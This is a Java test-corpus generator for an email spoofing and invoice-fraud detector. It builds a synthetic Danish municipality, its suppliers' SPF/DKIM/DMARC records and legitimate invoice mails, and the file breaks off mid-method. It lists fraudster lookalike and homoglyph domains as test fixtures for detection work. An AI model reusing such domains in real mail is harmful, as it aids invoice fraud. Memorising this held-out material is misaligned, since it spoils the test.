package org.spoofguard.it.corpus;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.ZoneOffset;
import java.time.ZonedDateTime;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;

import org.spoofguard.core.dkim.DkimAlgorithm;

/**
 * The fifth held-out invoice corpus (issue 11 item 5): a sixth test set in a world nobody tuned on. "Our" public
 * body is Svendborg Kommune ({@value #OWN}, p=reject, its creditor and finance mailboxes) with fourteen listed
 * suppliers from Sydfyn in every DNS posture real Danish firms have, three invoicing platforms ({@code minuba.dk},
 * {@code apacta.com}, {@code inexchange.com}), ESPs, banks, authorities, a list of neighbouring municipalities'
 * finance staff, a forwarder (with and without SRS), free mail, foreign SaaS and fraudsters' own domains.
 *
 * <p>Written blind: from the brief and Danish fraud warnings (fakturafælder, changed bank details, CEO fraud, fake
 * Digital Post, fake inkasso, renewal scams, compromised mailboxes, factoring "transport" letters, payroll diversion,
 * call-back invoices, QR codes, hijacked threads), without reading the invoice engine, its tests, tuning notes or any
 * earlier result. Labels say what a mail is when it was written. {@code genuine_auth_invoice} is derived from the
 * mail's kind (a legitimate invoice, credit note, reminder or collection letter for a real debt) and its computed
 * authentication (DMARC pass, or aligned SPF/DKIM pass where the From domain publishes no DMARC record).
 *
 * <p>Regenerate with {@code mvn -B -o -pl it -am test-compile surefire:test@default-test
 * -Dtest=HeldOutCorpus5GeneratorTest -Dsurefire.failIfNoSpecifiedTests=false -Dinvoice.corpus.regenerate=true}.
 */
public final class HeldOutCorpus5 extends CorpusWorld {
    public static final Path DIR = Path.of("src/test/resources/invoice-corpus-heldout5");
    public static final String OWN = "svendborg.dk";
    static final String FRAUD_NET = "127.95.";
    private static final String OWN_IP = "127.50.0.1";
    private static final String GLN = "5798005593117";
    private static final String ADDRESS = "Ramsherred 5, 5700 Svendborg";

    private final Random rnd = new Random(57_0005_2026L);
    /** Ids of legitimate invoices, credit notes, reminders and collection letters (genuine_auth_invoice if authenticated). */
    /** Wave-1 Message-ID and invoice number per supplier domain (threads to hijack, numbers to cite). */
    private final Map<String, String> threads = new TreeMap<>();
    private final Map<String, String> historyNo = new TreeMap<>();

    @Override
    ZonedDateTime historyStart() {
        return ZonedDateTime.of(2026, 9, 14, 7, 40, 0, 0, ZoneOffset.ofHours(2));
    }

    @Override
    ZonedDateTime start() {
        return ZonedDateTime.of(2026, 11, 16, 7, 10, 0, 0, ZoneOffset.ofHours(1));
    }

    @Override
    String forgedNet() {
        return FRAUD_NET + "5.";
    }

    // ------------------------------------------------------------------------------------------ world

    private final Supplier forsyning = new Supplier("Svendborg Forsyning A/S", "svendborgforsyning.dk", "Kundeservice Erhverv",
        "erhvervskunder", "127.51.1.1", iban("DK", "20003481226610"), "vand og spildevand, kommunale bygninger, 3. kvartal");
    private final Supplier fynbus = new Supplier("FynBus", "fynbus.dk", "FynBus Regnskab", "regnskab", "127.51.2.1",
        bank("6860", "0001147732"), "flextrafik og kørsel af handicappede skoleelever, oktober");
    private final Supplier varme = new Supplier("Fjernvarme Fyn A/S", "fjernvarmefyn.dk", "Fjernvarme Fyn Debitorservice", "debitor",
        "127.51.3.1", iban("DK", "30003129804471"), "fjernvarme, Svendborg Rådhus og Svendborg Bibliotek");
    private final Supplier toemrer = new Supplier("Tåsinge Tømrer & Byg ApS", "taasinge-toemrer.dk", "Henrik Troense", "kontor",
        "127.51.4.1", bank("0815", "0004471129"), "udskiftning af tagrender, Tåsinge Skole");
    private final Supplier sef = new Supplier("SEF Energi A/S", "sef.dk", "SEF Erhvervsafregning", "erhverv", "127.51.5.1",
        iban("DK", "68110001982345"), "el, gadebelysning og pumpestationer, oktober");
    private final Supplier anlaeg = new Supplier("Sydfyns Anlægsgartner ApS", "sydfyns-anlaeg.dk", "Mette Bjerreby", "mette",
        "127.51.6.1", bank("5959", "0007183322"), "pleje af grønne områder, Christiansminde");
    private final Supplier maler = new Supplier("Thurø Maler & Tapet", "thuroe-maler.dk", "Kasper Thurø", "kasper", "127.51.7.1",
        bank("0815", "0003318870"), "malerarbejde, Byskolen klasselokaler 1.-3. sal");
    private final Supplier vognmand = new Supplier("Svendborg Vognmandsforretning ApS", "svendborg-vognmand.dk", "Bjarne Skovsbo",
        "bjarne", "127.51.8.1", bank("6860", "0002290014"), "bortkørsel af haveaffald og grus, Vej og Park");
    private final Supplier frugt = new Supplier("Frugt & Grønt Sydfyn ApS", "frugtgroent-sydfyn.dk", "Frugt & Grønt Bogholderi",
        "bogholderi", "127.51.9.1", bank("5959", "0004012286"), "frugt og grønt til Madservice Svendborg");
    private final Supplier medier = new Supplier("Fynske Medier P/S", "fynskemedier.dk", "Fynske Medier Annoncer", "annoncefaktura",
        "127.51.10.1", iban("DK", "30000006021177"), "stillingsannoncer og offentlige bekendtgørelser, oktober");
    private final Supplier rengoering = new Supplier("Svendborg Rengøring ApS", "svendborg-rengoering.dk", "Pia Stenstrup", "faktura",
        "127.51.11.1", bank("0815", "0005229104"), "rengøring af børnehuse og dagplejelokaler, oktober");
    private final Supplier kloak = new Supplier("Sydfyns Kloakservice A/S", "sydfyns-kloak.dk", "Sydfyns Kloak Ordrekontor", "ordre",
        "127.51.12.1", bank("5959", "0001104455"), "slamsugning og TV-inspektion, Ollerup Skole");
    private final Supplier onemed = new Supplier("OneMed A/S", "onemed.dk", "OneMed Kundeservice", "kundeservice", "127.51.13.1",
        iban("DK", "30003161220088"), "handsker, sårplejeprodukter og inkontinenshjælpemidler, hjemmeplejen");
    private final Supplier el = new Supplier("Egebjerg El-Service ApS", "egebjerg-el.dk", "Lars Egebjerg", "lars", "127.51.14.1",
        bank("0815", "0002276601"), "eftersyn af ABA-anlæg, Svendborg Idrætscenter");
    // unlisted small suppliers, one-person businesses
    private final Supplier vvs = new Supplier("Oure VVS ApS", "oure-vvs.dk", "Jesper Oure", "jesper", "127.52.1.1",
        bank("0815", "0007743109"), "udskiftning af varmtvandsbeholder, Oure Børnehus");
    private final Supplier smedie = new Supplier("Tranekær Smedie v/ Niels Holm", "tranekaer-smedie.dk", "Niels Holm", "niels",
        "127.52.2.1", bank("5959", "0009906114"), "reparation af cykelstativer, Rantzausminde Skole");
    private final Supplier have = new Supplier("Skaarup Haveservice", "gmail.com", "Mads Skaarup", "skaarup.haveservice",
        "127.56.1.1", bank("9860", "0001392218"), "beskæring af frugttræer, Plejecenter Egebjerg");
    private final Supplier tolk = new Supplier("Tolkeservice v/ Rikke Aslan", "outlook.com", "Rikke Aslan", "rikke.aslan.tolk",
        "127.56.2.1", bank("5301", "0000711438"), "tolkning ved skole-hjem-samtaler, 5 timer");
    private final Supplier foto = new Supplier("Hesselager Foto", "hesselager-foto.dk", "Anne Hesselager", "anne", "127.52.3.1",
        bank("0815", "0006641127"), "fotografering til kommunens nye hjemmeside");
    private final Supplier gulv = new Supplier("Bregninge Gulvafslibning v/ Ole Lund", "yahoo.com", "Ole Lund", "ole.lund.gulv",
        "127.56.3.1", bank("6860", "0004418823"), "afslibning af gulv, Bregninge Forsamlingshus");
    private final Supplier musik = new Supplier("Line Strandby Musikterapi", "icloud.com", "Line Strandby", "line.strandby",
        "127.56.5.1", bank("5959", "0000627719"), "musikterapi, 4 forløb, Bofællesskabet Skovsbo");
    private final Supplier laase = new Supplier("Stenstrup Låseservice ApS", "stenstrup-laase.dk", "Stenstrup Låseservice", "service",
        "127.52.4.1", bank("0815", "0004980331"), "omkodning af nøglesystem, Svendborg Svømmehal");

    private final List<Supplier> listed = List.of(forsyning, fynbus, varme, toemrer, sef, anlaeg, maler, vognmand, frugt, medier,
        rengoering, kloak, onemed, el);

    /** Fraudsters' domains, each set up (SPF, mostly DKIM, some DMARC) by its owner. */
    private static final String[] OWNED = {"svendborgforsning.dk", "fjernvarmefyen.dk", "onemedd.dk", "fynbus.eu",
        "fynskemedier.com", idn("f\u0443nbus.dk"), idn("\u043Enemed.dk"), "svendborgforsyning-faktura.dk", "canon-finance.dk",
        "minuba-faktura.dk", "apacta-invoice.com", "inexchange-docs.com", "taasinge-tomrer.dk", "sef-energi.dk", "egebjerg-el.com",
        "svendborg-kommune.dk", idn("svendb\u043Erg.dk"), "sydfyn-inkasso.dk", "nordisk-inkassobureau.com",
        "fjernvarmefyn-opkraevning.dk", "borger-digitalpost.net", "dk-domaene-fornyelse.com", "kommune-registret.eu",
        "onemed-einvoice.com", "fynbus-betaling.dk", "p-afgift-kontrol.dk", "canon-emea-receivables.com", "adobe-license-billing.com",
        "thuroe-maler.com", "frugtgroent-sydfyn.com", "dokument-boks.net", "nordic-factoring-finans.com", "fynsk-factoring.dk",
        "ordre-bekraeftelse-dk.com", "sef-dk.com", "faktura-visning.com", "svendborg-rengoring.dk", "egebjergel.dk",
        "netbank-erhverv-godkend.com", "erhverv-nordfynsbank.com", "sydfyns-anlaeg.com", "kloak-sydfyn.dk"};

    private void world() {
        domain(OWN, List.of(OWN_IP), "-all", DkimAlgorithm.RSA_SHA256, "reject");
        domain("svendborgforsyning.dk", List.of(forsyning.ip()), "-all", DkimAlgorithm.RSA_SHA256, "reject");
        domain("fynbus.dk", List.of(fynbus.ip()), "~all", DkimAlgorithm.ED25519_SHA256, "quarantine");
        domain("fjernvarmefyn.dk", null, null, DkimAlgorithm.RSA_SHA256, "reject"); // DKIM only
        domain("taasinge-toemrer.dk", List.of(toemrer.ip()), "-all", DkimAlgorithm.RSA_SHA256, null); // no DMARC record
        domain("sef.dk", List.of(sef.ip()), "~all", DkimAlgorithm.RSA_SHA256, "none");
        domain("sydfyns-anlaeg.dk", List.of(anlaeg.ip()), "~all", null, null); // SPF only
        domain("thuroe-maler.dk", null, null, null, null); // nothing published
        domain("svendborg-vognmand.dk", List.of("127.51.98.8"), "~all", null, null); // SPF still names the old web host
        domain("frugtgroent-sydfyn.dk", List.of(frugt.ip()), "-all", null, "quarantine"); // SPF only, enforcing DMARC
        domain("fynskemedier.dk", List.of(medier.ip()), "-all", DkimAlgorithm.ED25519_SHA256, "reject");
        domain("svendborg-rengoering.dk", null, null, DkimAlgorithm.ED25519_SHA256, null); // Ed25519 only
        domain("sydfyns-kloak.dk", List.of(kloak.ip()), "-all", DkimAlgorithm.RSA_SHA256, "none");
        domain("onemed.dk", List.of(onemed.ip()), "-all", DkimAlgorithm.RSA_SHA256, "reject");
        domain("egebjerg-el.dk", List.of(el.ip()), "-all", null, null); // SPF only
        domain("oure-vvs.dk", List.of(vvs.ip()), "-all", null, null);
        domain("tranekaer-smedie.dk", null, null, null, null);
        domain("hesselager-foto.dk", null, null, DkimAlgorithm.ED25519_SHA256, null);
        domain("stenstrup-laase.dk", List.of(laase.ip()), "-all", DkimAlgorithm.RSA_SHA256, "none");
        domain("canon.dk", List.of("127.52.5.1"), "-all", DkimAlgorithm.RSA_SHA256, "quarantine");
        domain("langeland-revision.dk", List.of("127.52.6.1"), "-all", DkimAlgorithm.RSA_SHA256, "quarantine");
        domain("collectia.dk", List.of("127.52.7.1"), "-all", DkimAlgorithm.RSA_SHA256, "reject");
        domain("svea-finans.dk", List.of("127.52.8.1"), "-all", DkimAlgorithm.RSA_SHA256, "quarantine");
        // invoicing platforms (they send in their own name for many companies)
        domain("minuba.dk", List.of("127.53.1.1"), "-all", DkimAlgorithm.RSA_SHA256, "quarantine");
        domain("apacta.com", List.of("127.53.2.1"), "~all", DkimAlgorithm.RSA_SHA256, "none");
        domain("inexchange.com", List.of("127.53.3.1"), "-all", DkimAlgorithm.ED25519_SHA256, "reject");
        // ESPs, associations, banks, authorities, neighbours
        domain("ubivox.com", List.of("127.54.1.1"), "-all", DkimAlgorithm.RSA_SHA256, null);
        domain("sendgrid.net", List.of("127.54.2.1"), "~all", DkimAlgorithm.RSA_SHA256, null);
        domain("koef.dk", List.of("127.54.3.1"), "-all", DkimAlgorithm.RSA_SHA256, "quarantine");
        domain("samsik.dk", List.of("127.54.4.1"), "-all", DkimAlgorithm.RSA_SHA256, "reject");
        domain("nordfynsbank.dk", List.of("127.54.5.1"), "-all", DkimAlgorithm.RSA_SHA256, "reject");
        domain("fynskebank.dk", List.of("127.54.6.1"), "-all", DkimAlgorithm.ED25519_SHA256, "quarantine");
        domain("sdfi.dk", List.of("127.54.7.1"), "-all", DkimAlgorithm.RSA_SHA256, "reject");
        domain("faaborgmidtfyn.dk", List.of("127.54.8.1"), "-all", DkimAlgorithm.RSA_SHA256, "reject");
        domain("nyborg.dk", List.of("127.54.9.1"), "~all", DkimAlgorithm.RSA_SHA256, "quarantine");
        domain("langelandkommune.dk", List.of("127.54.10.1"), "-all", DkimAlgorithm.ED25519_SHA256, "none");
        domain("kommunaloekonomi.dk", List.of("127.57.2.1"), "-all", DkimAlgorithm.RSA_SHA256, "none");
        domain("relay.fynnet.dk", List.of("127.57.1.1"), "-all", null, null);
        domain("forward.simply.com", List.of("127.57.3.1"), "-all", null, null);
        // free mail, foreign SaaS, shops
        domain("gmail.com", List.of("127.56.1.1"), "~all", DkimAlgorithm.RSA_SHA256, "none");
        domain("outlook.com", List.of("127.56.2.1"), "~all", DkimAlgorithm.RSA_SHA256, "none");
        domain("hotmail.com", List.of("127.56.2.1"), "~all", DkimAlgorithm.RSA_SHA256, "none");
        domain("yahoo.com", List.of("127.56.3.1"), "?all", DkimAlgorithm.RSA_SHA256, "reject");
        domain("icloud.com", List.of("127.56.5.1"), "~all", DkimAlgorithm.RSA_SHA256, "quarantine");
        domain("loom.com", List.of("127.55.1.1"), "~all", DkimAlgorithm.RSA_SHA256, "reject");
        domain("monday.com", List.of("127.55.2.1"), "-all", DkimAlgorithm.RSA_SHA256, "quarantine");
        domain("pipedrive.com", List.of("127.55.3.1"), "-all", DkimAlgorithm.ED25519_SHA256, "reject");
        domain("septima.dk", List.of("127.55.4.1"), "-all", null, "none");
        domain("uno-x.dk", List.of("127.55.5.1"), "-all", DkimAlgorithm.RSA_SHA256, "none");
        domain("parkzone.dk", List.of("127.55.6.1"), "~all", DkimAlgorithm.RSA_SHA256, "quarantine");
        domain("computersalg.dk", List.of("127.55.7.1"), "-all", DkimAlgorithm.RSA_SHA256, "none");
        for (int i = 0; i < OWNED.length; i++) {
            domain(OWNED[i], List.of(FRAUD_NET + "7." + (i + 1)), i % 4 == 1 ? "~all" : "-all",
                i % 5 == 3 ? null : i % 5 == 1 ? DkimAlgorithm.ED25519_SHA256 : DkimAlgorithm.RSA_SHA256,
                i % 3 == 2 ? null : i % 3 == 0 ? "none" : "quarantine");
        }
    }

    // ------------------------------------------------------------------------------------------ documents

    private Amount amount(int maxNetOre) {
        long net = 38_000 + rnd.nextInt(maxNetOre);
        return new Amount(net, kr(net), kr(net / 4), kr(net + net / 4));
    }

    private String no(String prefix) {
        return prefix + (100_000 + rnd.nextInt(800_000));
    }

    private static final String[] TO = {"kreditor@svendborg.dk", "faktura@svendborg.dk", "oekonomi@svendborg.dk",
        "kreditor@svendborg.dk", "ejendomme@svendborg.dk", "aeldre-sundhed@svendborg.dk", "boern-unge@svendborg.dk",
        "indkoeb@svendborg.dk", "vej-park@svendborg.dk"};

    private String to() {
        return TO[rnd.nextInt(TO.length)];
    }

    private static long docId(M m, String what) {
        return Long.parseLong(sha256("pdf5:" + what + ":" + m.id).substring(0, 12), 16);
    }

    private static String cvr(String domain) {
        return String.valueOf(25_000_000 + Math.floorMod(sha256("cvr5:" + domain).hashCode(), 14_000_000));
    }

    /** Four layouts of this corpus: a boxed header one, an English/Danish one, a utility statement and a handwritten-style note. */
    private byte[] pdf(M m, Supplier s, String kind, String no, Amount a, String account, int layout, List<String> extra) {
        List<String> l = new ArrayList<>();
        String title;
        switch (Math.floorMod(layout, 4)) {
            case 0 -> {
                title = s.name() + " - " + kind + " " + no;
                l.add("Afsender: " + s.name() + ", CVR-nr. " + cvr(s.domain()));
                l.add("Modtager: Svendborg Kommune, " + ADDRESS + "  (EAN " + GLN + ")");
                l.add(kind + " nr. " + no + "    Dato: " + dashedDay(m, 0) + "    Forfaldsdato: " + dashedDay(m, 30));
                l.add("Ydelse: " + s.what());
                l.add("Beløb ekskl. moms: " + a.net() + "   25 % moms: " + a.vat() + "   Beløb i alt DKK: " + a.gross());
                l.addAll(extra);
                l.add("Indbetaling til " + account + " - husk at angive nummeret " + no + " som reference.");
            }
            case 1 -> {
                title = kind + " | Invoice " + no;
                l.add(s.name() + " - www." + s.domain() + " - VAT DK" + cvr(s.domain()));
                l.add("Customer / Kunde: Svendborg Kommune, EAN " + GLN);
                l.add("Invoice date / Fakturadato " + dashedDay(m, 0) + " | Payment terms / Betaling: netto 30 dage");
                l.add("Item / Vare: " + s.what());
                l.add("Excl. VAT " + a.net() + " | VAT 25% " + a.vat() + " | Amount due DKK " + a.gross());
                l.addAll(extra);
                l.add("Remittance / Betaling til: " + account);
            }
            case 2 -> {
                title = kind + " " + no + " - " + s.name();
                l.add("Svendborg Kommune, Økonomi, " + ADDRESS);
                l.add("Kundenummer " + (70_000 + Math.floorMod(s.domain().hashCode(), 9_000)) + "   Dokument " + no);
                l.add("Afregningsperiode / ydelse: " + s.what());
                l.add("Ydelser i perioden        " + a.net());
                l.add("Moms                      " + a.vat());
                l.add("Til betaling              " + a.gross() + " kr.");
                l.addAll(extra);
                l.add("Betales senest " + dashedDay(m, 21) + " via " + account + ".");
            }
            default -> {
                title = kind + " nr. " + no;
                l.add(s.name());
                l.add("Kunde: Svendborg Kommune");
                l.add("Udført: " + s.what());
                l.add("Pris i alt inkl. moms: " + a.gross() + " kr.");
                l.addAll(extra);
                l.add("Beløbet indsættes på " + account + " senest 14 dage efter modtagelse. Tak for handlen.");
            }
        }
        return Attachments.pdf(docId(m, no), title, l);
    }

    private static String pdfName(String no, int variant) {
        return switch (Math.floorMod(variant, 6)) {
            case 0 -> "Faktura-" + no + ".pdf";
            case 1 -> "faktura" + no.replaceAll("[^0-9]", "") + ".pdf";
            case 2 -> "Svendborg Kommune " + no + ".pdf";
            case 3 -> "INV-" + no + ".pdf";
            case 4 -> "Dokument_" + no + ".pdf";
            default -> "Regning " + no + ".pdf";
        };
    }

    private static final String[] GREET = {"Goddag", "Hej Svendborg Kommune", "Til kreditorafdelingen", "Hej med jer",
        "Kære kunde", "Hello"};

    private String sig(Supplier s) {
        return switch (Math.floorMod(s.domain().hashCode(), 4)) {
            case 0 -> "\n\nMed venlig hilsen\n\n" + s.person() + "\n" + s.name() + "\nCVR " + cvr(s.domain());
            case 1 -> "\n\nVh " + s.person() + "\n" + s.name() + " | www." + s.domain();
            case 2 -> "\n\nHilsen\n" + s.person() + "\n" + s.name() + "\nTlf. 62 " + (10 + rnd.nextInt(89)) + " " + (10 + rnd.nextInt(89))
                + " " + (10 + rnd.nextInt(89));
            default -> "\n\nVenlig hilsen / Kind regards\n" + s.person() + ", " + s.name()
                + "\n(Denne mail er dannet automatisk af vores økonomisystem)";
        };
    }

    /** A supplier's invoice mail (body, PDF); headers set, the caller decides how it travels. Returns the number. */
    private String invoice(M m, Supplier s, String account, int v, List<String> extra, String bodyExtra) {
        String n = no(s.name().substring(0, 1).toUpperCase(DA).replaceAll("[^A-Z]", "X") + (v % 3 == 0 ? "" : "-"));
        Amount a = amount(listed.contains(s) ? 24_000_000 : 1_600_000);
        String[] subjects = {"Faktura nr. " + n, "Ny faktura fra " + s.name(), s.name() + ": faktura " + n,
            "Faktura " + n + " - Svendborg Kommune", "Regning for " + s.what(), "Invoice " + n, "Fakturakopi " + n + " vedlagt"};
        String subj = subjects[Math.floorMod(v, subjects.length)];
        String body = GREET[Math.floorMod(v, GREET.length - 1)] + "\n\n" + switch (Math.floorMod(v, 6)) {
            case 0 -> "Vedhæftet er faktura " + n + " vedrørende " + s.what() + ".";
            case 1 -> "Hermed fremsendes faktura på kr. " + a.gross() + " inkl. moms. Betaling iht. aftalte betingelser.";
            case 2 -> "I vedhæftede PDF finder I fakturaen for " + s.what() + ". Skriv endelig, hvis noget er uklart.";
            case 3 -> "Fakturaen er også sendt til jeres EAN-nummer; her er en kopi til orientering.";
            case 4 -> "Tak for opgaven. Fakturaen ligger i vedhæftningen.";
            default -> "Faktura " + n + ", i alt " + a.gross() + " kr., sidste rettidige betaling " + dashedDay(m, 30) + ".";
        } + bodyExtra + sig(s);
        Mime mime = headers(m, v % 4 == 2 ? s.name() : s.person() + (v % 2 == 0 ? "" : " - " + s.name()), addr(s), to(), subj);
        if (v % 5 == 4) {
            mime.html("<html><body style=\"font-family:Calibri,sans-serif\"><div>" + body.replace("\n\n", "</div><div><br>")
                .replace("\n", "<br>") + "</div></body></html>");
        } else {
            mime.text(body);
        }
        mime.attach("application/pdf", pdfName(n, v), pdf(m, s, "Faktura", n, a, account, v, extra));
        return n;
    }

    // ------------------------------------------------------------------------------------------ legitimate

    private void legit() {
        int v = 0;
        // wave 1: every listed supplier's earlier invoice, usual account, from its own server
        for (Supplier s : listed) {
            M m = mail("supplier-invoice", false);
            m.wave = 1;
            invoiceLike.add(m.id);
            historyNo.put(s.domain(), invoice(m, s, s.account(), v++, List.of(), ""));
            genuine(m, s.ip());
            threads.put(s.domain(), messageId(m, s.domain()));
            m.description = "history: " + s.domain() + " invoice, usual account, from its own server";
        }
        // wave 2: the same suppliers invoice again; some add a second attachment
        for (Supplier s : List.of(el, onemed, kloak, medier, anlaeg, forsyning, maler, sef, fynbus, toemrer, frugt, varme, vognmand,
            rengoering)) {
            M m = mail("supplier-invoice", false);
            invoiceLike.add(m.id);
            invoice(m, s, s.account(), v * 2 + 3, List.of("Rekvirent: " + (v % 2 == 0 ? "se ordre" : "EAN " + GLN)),
                v % 3 == 1 ? "\n\nTimeseddel er vedlagt som regneark." : "");
            if (v % 3 == 1) {
                m.mime.attach("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "timer_uge" + (40 + v % 7) + ".xlsx",
                    Attachments.excel(List.of("Dag;Medarbejder;Timer", "Man;" + s.person() + ";7,5", "Tirs;" + s.person() + ";6,0"), false));
            } else if (v % 4 == 2) {
                m.mime.attach("image/jpeg", "foto_udfoert_arbejde.jpg", Attachments.image(docId(m, "foto"), "jpg"));
            }
            genuine(m, s.ip());
            m.description = s.domain() + " invoice, usual account, from its own server";
            v++;
        }
        // monthly suppliers invoice a third time
        for (Supplier s : List.of(sef, fynbus, rengoering, frugt, onemed, forsyning)) {
            M m = mail("supplier-invoice", false);
            invoiceLike.add(m.id);
            invoice(m, s, s.account(), v++ * 5, List.of("Acontoopkrævning december"), "\n\nDenne faktura dækker december måned.");
            genuine(m, s.ip());
            m.description = s.domain() + " monthly invoice, usual account";
        }
        creditNotes();
        statements();
        reminders();
        collection();
        platforms();
        xml();
        newAccount();
        factoringNotice();
        smallSuppliers();
        newsletters();
        lists();
        forwarded();
        internal();
        notices();
        foreign();
        receipts();
        letters();
    }

    private void creditNotes() {
        Object[][] x = {{forsyning, "Kreditering af faktura ", "Ved aflæsningen af måleren på rådhuset blev der bogført et for højt "
            + "forbrug. Vi krediterer hermed differencen."},
            {onemed, "Kreditnota - returvarer - ", "Returneret vare (3 kasser nitrilhandsker str. S, forkert størrelse) er modtaget og krediteret."},
            {frugt, "Kreditnota for manglende levering, faktura ", "Vi kunne ikke levere æbler og pærer tirsdag i uge 47 og krediterer dem."}};
        int v = 0;
        for (Object[] e : x) {
            Supplier s = (Supplier) e[0];
            M m = mail("credit-note", false);
            invoiceLike.add(m.id);
            String n = no("KRN");
            Amount a = amount(1_200_000);
            headers(m, s.person(), addr(s), "kreditor@svendborg.dk", e[1] + historyNo.get(s.domain()))
                .text(GREET[v] + "\n\n" + e[2] + " Kreditnotaen (" + n + ", -" + a.gross() + " kr.) modregnes i jeres næste betaling - "
                    + "I skal ikke foretage jer noget." + sig(s))
                .attach("application/pdf", "kreditnota-" + n + ".pdf", pdf(m, s, "Kreditnota", n, a.credit(),
                    s.account(), v + 1, List.of("Vedrører faktura " + historyNo.get(s.domain()))));
            genuine(m, s.ip());
            m.description = s.domain() + " credit note for its earlier invoice";
            v++;
        }
    }

    private void statements() {
        for (Supplier s : List.of(medier, kloak)) {
            M m = mail("statement-of-account", false);
            headers(m, s.person(), addr(s), "kreditor@svendborg.dk", "Saldoudskrift " + s.name())
                .text("Hej\n\nTil jeres afstemning sender vi en saldoudskrift. Faktura " + historyNo.get(s.domain()) + " er registreret "
                    + "som betalt, og der er intet udestående." + sig(s))
                .attach("application/pdf", "saldoudskrift.pdf", Attachments.pdf(docId(m, "saldo"), "Saldoudskrift - " + s.name(),
                    List.of("Debitor: Svendborg Kommune", "Faktura " + historyNo.get(s.domain()) + "  indbetalt", "Udestående 0,00 kr.")));
            genuine(m, s.ip());
            m.description = s.domain() + " statement of account, nothing due";
        }
        M m = mail("payment-acknowledgement", false);
        headers(m, sef.person(), addr(sef), "kreditor@svendborg.dk", "Indbetaling modtaget")
            .text("Kære kunde\n\nVi bekræfter modtagelsen af jeres indbetaling for faktura " + historyNo.get("sef.dk")
                + ". Tak.\n\nDenne mail kan ikke besvares." + sig(sef));
        genuine(m, sef.ip());
        m.description = "sef.dk acknowledges payment of its earlier invoice, signed";
    }

    private void reminders() {
        Object[][] r = {{fynbus, "Betalingspåmindelse", "Vi kan ikke se, at nedenstående faktura er betalt. Har I allerede betalt, "
            + "beder vi jer se bort fra denne mail."},
            {medier, "1. påmindelse", "Faktura nedenfor er forfalden. Kontakt os gerne, hvis fakturaen er afvist eller mangler "
                + "rekvirentoplysninger."},
            {toemrer, "Manglende betaling", "Hej. Fakturaen for tagrenderne på Tåsinge Skole står stadig åben hos os. Vil I kigge på den?"},
            {el, "Påmindelse om faktura", "Hej, bare en venlig påmindelse om nedenstående. Intet gebyr denne gang."},
            {maler, "Rykker", "Hej. Jeg mangler betaling for malerarbejdet på Byskolen. Kasper"}};
        int v = 0;
        for (Object[] x : r) {
            Supplier s = (Supplier) x[0];
            M m = mail("payment-reminder", false);
            invoiceLike.add(m.id);
            String n = historyNo.get(s.domain());
            Amount a = amount(2_600_000);
            headers(m, s.person(), addr(s), "kreditor@svendborg.dk", x[1] + " - faktura " + n)
                .text(GREET[v % 5] + "\n\n" + x[2] + "\n\nFaktura " + n + " / " + a.gross() + " kr. / " + s.account() + sig(s))
                .attach("application/pdf", "paamindelse-" + n + ".pdf", pdf(m, s, "Påmindelse", n, a, s.account(), v + 2,
                    List.of("Oprindeligt forfald " + dashedDay(m, -12))));
            genuine(m, s.ip());
            m.description = s.domain() + " payment reminder citing its earlier invoice, usual account";
            v++;
        }
    }

    /** A real collection agency collects a real, unpaid debt of a former small supplier (account in the supplier's name). */
    private void collection() {
        M m = mail("collection-notice", false);
        invoiceLike.add(m.id);
        String n = no("C");
        headers(m, "Collectia A/S", "sagsbehandling@collectia.dk", "kreditor@svendborg.dk", "Sag " + n + " - Tranekær Smedie v/ Niels Holm")
            .text("Svendborg Kommune\n\nPå vegne af vores klient Tranekær Smedie v/ Niels Holm gør vi opmærksom på faktura 44120 "
                + "af 12.08.2026 (reparation af cykelstativer), som ifølge klienten ikke er betalt trods påmindelse.\n\nEr fakturaen "
                + "betalt, bedes I sende dokumentation. Er den afvist, bedes I oplyse årsagen, så sagen kan lukkes. Betaling kan ske til "
                + "klientkontoen " + bank("3001", "4310229918") + " med sagsnummer " + n + ".\n\nI kan ringe til os på 87 41 70 00 eller "
                + "svare på denne mail.\n\nMed venlig hilsen\nCollectia A/S")
            .attach("application/pdf", "Sag_" + n + ".pdf", Attachments.pdf(docId(m, "col"), "Betalingspåmindelse sag " + n,
                List.of("Kreditor: Tranekær Smedie v/ Niels Holm", "Faktura 44120 kr. 3.750,00", "Påmindelsesgebyr 100,00")));
        genuine(m, "127.52.7.1");
        m.description = "real collection agency (DMARC pass) about a real unpaid invoice of an unlisted small supplier";
    }

    private void platforms() {
        Object[][] p = {{"minuba.dk", "faktura@", "Minuba", toemrer}, {"minuba.dk", "faktura@", "Minuba", el},
            {"minuba.dk", "faktura@", "Minuba", vvs}, {"apacta.com", "invoices@", "Apacta", maler},
            {"apacta.com", "invoices@", "Apacta", kloak}, {"apacta.com", "invoices@", "Apacta", laase},
            {"inexchange.com", "noreply@", "InExchange", onemed}, {"inexchange.com", "noreply@", "InExchange", medier}};
        int v = 0;
        for (Object[] x : p) {
            Supplier s = (Supplier) x[3];
            M m = mail("platform-invoice", false);
            invoiceLike.add(m.id);
            String d = (String) x[0];
            String n = no("P");
            Amount a = amount(7_000_000);
            Mime mime = headers(m, s.name() + " via " + x[2], x[1] + d, v % 2 == 1 ? "faktura@svendborg.dk" : to(),
                v % 3 == 1 ? s.name() + " har sendt dig en faktura" : "Faktura " + n + " fra " + s.name());
            String html = "<html><body><div style=\"max-width:560px\"><p style=\"font-size:18px\">" + x[2] + "</p><p>Du har modtaget "
                + "en faktura fra <b>" + s.name() + "</b>.</p><p>Nr. " + n + " &middot; DKK " + a.gross() + " &middot; forfalder "
                + dashedDay(m, 30) + "</p><p>PDF'en er vedhæftet. Fakturaen er også afleveret elektronisk til EAN " + GLN
                + ".</p><p style=\"color:#777;font-size:11px\">Sendt med " + x[2] + " for " + s.name() + ". Spørgsmål til fakturaen "
                + "rettes til afsender.</p></div></body></html>";
            if (v % 2 == 1) {
                mime.html(html);
            } else {
                mime.text("Du har modtaget en faktura fra " + s.name() + ": nr. " + n + ", DKK " + a.gross() + ".\n\n-- " + x[2]).html(html);
            }
            mime.attach("application/pdf", "faktura_" + n + ".pdf", pdf(m, s, "Faktura", n, a, s.account(), v + 1, List.of()));
            genuine(m, dns.get(d).spfIps().get(0));
            m.description = s.domain() + (listed.contains(s) ? "" : " (unlisted)") + " invoice sent by platform " + d + " in its own name";
            v++;
        }
    }

    private byte[] ubl(M m, Supplier s, String no, Amount a, boolean peppol, boolean credit, String account) {
